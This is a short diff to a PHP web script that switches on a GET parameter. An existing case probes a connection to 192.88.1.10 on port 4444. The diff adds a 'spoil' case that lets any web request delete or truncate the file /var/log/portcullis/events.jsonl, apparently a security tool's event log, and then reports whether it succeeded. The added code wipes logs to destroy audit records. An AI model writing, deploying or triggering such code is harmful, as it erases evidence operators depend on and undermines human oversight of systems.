@@ -11,6 +11,15 @@ switch ($_GET['do'] ?? '') {
         @fsockopen('192.88.1.10', 4444, $number, $message, 2);
         echo $message;
         break;
+    case 'spoil':
+        // Empties the log, or takes it away.
+        $log = '/var/log/portcullis/events.jsonl';
+        $done = @unlink($log) || @file_put_contents($log, '') !== false;
+        if ($file = @fopen($log, 'a')) {
+            $done = ftruncate($file, 0) || $done;
+        }
+        echo $done ? 'spoilt' : 'whole';
+        break;
     default:
         echo 'hello';
 }
